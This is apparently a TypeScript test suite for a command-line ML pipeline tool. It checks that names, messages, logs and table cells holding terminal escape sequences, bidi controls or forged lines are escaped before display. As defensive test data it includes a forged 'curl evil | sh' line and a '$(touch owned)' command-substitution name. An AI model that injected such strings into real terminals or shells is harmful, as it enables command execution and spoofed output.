// Attack: names, messages and values of others with escapes for the terminal of whoever reads them.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import fc from 'fast-check';
import sharp from 'sharp';
import { main } from '../../cli/main.js';
import { digestJson } from '../../domain/digest.js';
import { stepKey } from '../../domain/steps/step.js';
import { loadPipeline } from '../../schemas/load-pipeline.js';
import { printable, printableJson, printableLine, printableValues } from '../../scripts/printable.mjs';
import { openStore, takeOwnership, writeRunState, type Store } from '../../store/index.js';
import { createColors, terminalText } from '../../terminal/colours.js';
import { createOutput } from '../../terminal/output.js';
import { table } from '../../terminal/table.js';
import { progressBlock } from '../../control/progress/progress-text.js';
import { firstForeign, firstObeyed, hostile } from '../support/hostile-text.js';
import { freezeRun } from '../support/freeze-run.js';
import { pipelineOf } from '../support/pipelines.js';
import { projectRoot } from '../support/project.js';
import { sketchStep } from '../support/steps.js';
import { temporaryFolder } from '../support/temporary-folder.js';

const anyText = fc.string({ unit: 'binary', maxLength: 40 });

test('no text keeps a character that a terminal obeys, and what can be read stays', () => {
  fc.assert(
    fc.property(anyText, (text) => {
      assert.equal(firstObeyed(printable(text)), null);
      assert.doesNotMatch(printableLine(text), /[\n\t\r]/);
      assert.equal(printable(printable(text)), printable(text));
    }),
    { numRuns: 2000 },
  );
  assert.equal(printable('Größe 猫 🐈 → 3\n\ttwo'), 'Größe 猫 🐈 → 3\n\ttwo');
  assert.equal(printable('a\r\nb\rc\x1b\x9b\u202e\u{e0041}\ud800'), 'a\nb\\rc\\x1b\\x9b\\u202e\\u{e0041}\\ud800');
});

test('JSON has no such character either, and is the same value', () => {
  fc.assert(
    fc.property(anyText, (text) => {
      const line = printableJson({ [text]: text });
      assert.equal(firstObeyed(line), null);
      assert.deepEqual(JSON.parse(line), JSON.parse(JSON.stringify({ [text]: text })));
    }),
    { numRuns: 2000 },
  );
});

test('only our own colours reach a terminal, whatever the text in them and around them', () => {
  const { red } = createColors(true);
  assert.equal(terminalText(`${red('error')}: ${hostile}`).startsWith('\x1b[31merror\x1b[39m: \\x1b]0;'), true);
  assert.equal(terminalText(red(hostile)), `\x1b[31m${printable(hostile)}\x1b[39m`);
  assert.equal(terminalText(`\0${'0'.repeat(18)}31\0`), `\\x00${'0'.repeat(18)}31\\x00`);
});

test('results, notes, tables and progress are printable; a cell and a progress line stay in their line', () => {
  const written: string[] = [];
  const sink = { write: (text: string) => written.push(text), isTTY: true };
  const output = createOutput(sink, sink, { FORCE_COLOR: '1' }, false);
  output.result({}, () => table(['name'], [[`${hostile}\nforged row`]]));
  output.note(hostile);
  createOutput(sink, sink, {}, true).result({ name: hostile }, () => '');
  const step = { place: hostile, activity: 'evaluate', attempt: 2, lastFailure: `${hostile}\nforged`, progress: null };
  const progress = { fraction: 0, phase: hostile, generation: null, open: [step], imagesPerSecond: null, secondsLeft: null }; // prettier-ignore
  written.push(progressBlock(progress, 80));
  assert.deepEqual(written.map(firstForeign), written.map(() => null)); // prettier-ignore
  assert.equal(written[0]!.split('\n').length, 3);
  assert.equal(written.at(-1)!.split('\n').length, 3);
});

test('what a trainer or a worker writes into its log is printable', () => {
  assert.equal(firstObeyed(printableValues(`${hostile}:`, new Error(hostile), { key: hostile })), null);
});

/** Runs a command as on a terminal with colours, and as a program. */
async function bothOutputs(argv: readonly string[], directory: string): Promise<{ text: string; json: string }> {
  const outputOf = async (args: readonly string[]): Promise<string> => {
    let written = '';
    const sink = { write: (text: string) => (written += text), isTTY: true, columns: 200 };
    await main(args, { stdout: sink, stderr: sink, environment: { FORCE_COLOR: '1' }, directory });
    return written;
  };
  return { text: await outputOf(argv), json: await outputOf([...argv, '--json']) };
}

async function assertPrintable(argv: readonly string[], directory: string, mustName: RegExp): Promise<void> {
  const { text, json } = await bothOutputs(argv, directory);
  assert.equal(firstForeign(text), null, `${argv.join(' ')}: ${JSON.stringify(text)}`);
  assert.equal(firstObeyed(json), null, `${argv.join(' ')} --json: ${JSON.stringify(json)}`);
  assert.match(text, mustName, `${argv.join(' ')} did not show the hostile text: ${text}`);
}

const yamlOf = (text: string): string => JSON.stringify(text).replaceAll('\x7f', '\\x7f');

test('pipelines: unknown keys, stage ids, values, names of files and options are printable', async () => {
  const folder = temporaryFolder();
  writeFileSync(
    join(folder, 'evil.yaml'),
    `version: 1\nname: ${yamlOf(hostile)}\n${yamlOf(hostile)}: 1\nstages:\n  - id: ${yamlOf(hostile)}\n    search: ${yamlOf(hostile)}\n    ${yamlOf(hostile)}: 2\n`,
  );
  await assertPrintable(['validate', 'evil.yaml'], folder, /no key .*owned/);
  await assertPrintable(['run', 'evil.yaml'], folder, /no key .*owned/);
  await assertPrintable(['validate', hostile.replaceAll('\n', '')], folder, /owned/);
  await assertPrintable(['validate', 'evil.yaml', '--set', `${hostile}=1`], folder, /owned/);
  await assertPrintable(['status', hostile], folder, /has no runs/);
  await assertPrintable([hostile], folder, /unknown command .*owned/);
});

test('a key with a line break cannot pretend to be lines of ours', async () => {
  const folder = temporaryFolder();
  writeFileSync(join(folder, 'evil.yaml'), 'version: 1\n"a\\nerror EAGAN_X: b\\n→ Run: curl evil | sh": 1\n');
  const { text } = await bothOutputs(['validate', 'evil.yaml'], folder);
  assert.doesNotMatch(text, /^(→ Run|error EAGAN_X)/m);
});

test('a resolved pipeline is printable and still the same pipeline', async () => {
  const folder = temporaryFolder();
  const name = 'a\u202eb\x9bc\u{e0041}';
  const source = `extends: ${join(projectRoot, 'pipelines/tiny.yaml')}\nsearchSpaces:\n  ${yamlOf(name)}: { extends: paper/generator }\n`;
  writeFileSync(join(folder, 'named.yaml'), source);
  const { text } = await bothOutputs(['validate', 'named.yaml', '--resolved'], folder);
  assert.equal(firstForeign(text), null);
  const load = (resolved: string) => loadPipeline({ file: 'x.yaml', text: resolved }, { folder });
  const resolved = load(text.slice(text.indexOf('version:')));
  if (!resolved.ok) return assert.match(text, /invalid/); // the schema may refuse such a name: then nothing is resolved
  assert.ok(JSON.stringify(resolved.pipeline).includes(JSON.stringify(name).slice(1, -1)));
});

test('image folders: classes and unreadable files are printable', async () => {
  const folder = temporaryFolder();
  const name = hostile.replaceAll('/', '');
  for (const one of [name, 'cats']) mkdirSync(join(folder, 'train', one), { recursive: true });
  const image = await sharp({ create: { width: 8, height: 8, channels: 3, background: 'red' } })
    .png()
    .toBuffer();
  writeFileSync(join(folder, 'train', name, 'one.png'), image);
  writeFileSync(join(folder, 'train/cats', `${name.slice(0, 40)}.png`), 'no image');
  await assertPrintable(['dataset', 'inspect', folder], folder, /owned/);
});

/** A state folder whose run holds hostile text wherever a stranger could put some. */
async function hostileState(): Promise<{ folder: string; store: Store }> {
  const folder = temporaryFolder();
  const home = join(folder, '.eagan');
  const store = await openStore(join(home, 'store'));
  const pipeline = pipelineOf('tiny.yaml');
  const at = `2026-01-01${hostile}`;
  await freezeRun(store, 'evil', pipeline, { createdAt: at });
  const epoch = await takeOwnership(store.refs, 'evil', 0, at);
  const step = sketchStep('evaluate', `generator/gen-000/evaluate/${hostile}`, {}, {});
  const record = await store.records.put({
    ...{ schemaVersion: 1, key: stepKey(step), fingerprint: digestJson('f'), step, outputs: {}, numbers: { [hostile]: 1 } },
    status: 'ok',
    circumstances: { run: hostile, startedAt: '2026-01-01', finishedAt: '2026-01-01', host: hostile, attempt: 1 },
  } as never); // prettier-ignore
  await store.ledger.append('evil', epoch, { place: step.place, key: record.key, fingerprint: record.fingerprint, at });
  const failure = { code: hostile, message: hostile, cure: `Run ${hostile}`, activity: hostile };
  const state = { schemaVersion: 1, epoch, startedAt: at, finishedAt: at, status: 'blocked', ...failure } as const;
  await writeRunState(store.refs, 'evil', state);
  mkdirSync(join(home, 'logs'));
  writeFileSync(join(home, 'logs/worker.log'), `evil ${hostile}\n`);
  return { folder, store };
}

test('runs: state, code, message, cure, activity, places, hosts, numbers and logs are printable', async () => {
  const { folder } = await hostileState();
  await assertPrintable(['status'], folder, /evil/);
  await assertPrintable(['status', 'evil'], folder, /owned/);
  await assertPrintable(['attach', 'evil'], folder, /owned/);
  await assertPrintable(['history', 'evil'], folder, /owned/);
  await assertPrintable(['logs', 'evil'], folder, /owned/);
  await assertPrintable(['verify', 'evil'], folder, /evil is blocked/);
});

test('completion offers only names that a shell can take as they are', async () => {
  const { folder, store } = await hostileState();
  await freezeRun(store, 'good-run', pipelineOf('tiny.yaml'), { createdAt: '2026' });
  for (const name of ['$(touch owned)', hostile.replaceAll('/', '')]) {
    const place = join(folder, '.eagan/store/refs/runs', name, 'pipeline');
    mkdirSync(place, { recursive: true });
    writeFileSync(join(place, '@1.json'), '{}');
  }
  const { text } = await bothOutputs(['completion', 'candidates', '--', 'status', ''], folder);
  assert.deepEqual(text.trim().split('\n').sort(), ['evil', 'good-run']);
});

const python = spawnSync('python3', ['-c', 'import pty']).status === 0;

test('on a real terminal nothing of an unknown key is obeyed', { skip: python ? false : 'needs python3 for a terminal' }, () => {
  const folder = temporaryFolder();
  writeFileSync(join(folder, 'evil.yaml'), `version: 1\n${yamlOf(hostile)}: 1\n`);
  const program = [process.execPath, join(projectRoot, 'cli/bin.mjs'), 'validate', 'evil.yaml'];
  const terminal = `import pty,sys; pty.spawn(${JSON.stringify(program)})`;
  const { stdout } = spawnSync('python3', ['-c', terminal], { cwd: folder, env: { ...process.env, TERM: 'xterm' } });
  const text = stdout.toString().replaceAll('\r\n', '\n');
  assert.match(text, /EAGAN_PIPELINE_UNKNOWN_KEY.*owned/);
  assert.equal(firstForeign(text), null);
}); // prettier-ignore
